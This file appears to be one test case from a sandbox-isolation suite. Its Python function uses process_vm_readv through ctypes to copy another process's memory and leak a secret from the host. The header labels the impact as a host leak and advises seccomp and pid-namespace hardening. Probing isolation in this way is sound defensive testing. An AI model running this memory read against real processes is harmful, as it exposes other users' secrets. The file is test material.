# title: Read the memory of another process
# tries: Copies memory of a process of the server's user by process_vm_readv, which needs neither /proc nor a debugger.
# impact: HostLeak
# proof: secret
# host: run
# advice: Refuse process_vm_readv by seccomp, and run the code in a pid namespace of its own.


def attempt(host):
    import ctypes
    import os

    class Region(ctypes.Structure):
        _fields_ = [("address", ctypes.c_void_p), ("length", ctypes.c_size_t)]

    length = host["memory_length"]
    copy = ctypes.create_string_buffer(length)
    here = Region(ctypes.addressof(copy), length)
    there = Region(host["memory_address"], length)
    one, no_flags = ctypes.c_ulong(1), ctypes.c_ulong(0)
    libc = ctypes.CDLL(None, use_errno=True)
    libc.process_vm_readv.restype = ctypes.c_ssize_t
    if libc.process_vm_readv(host["pid"], ctypes.byref(here), one, ctypes.byref(there), one, no_flags) == -1:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return copy.raw.decode("utf-8", "replace")
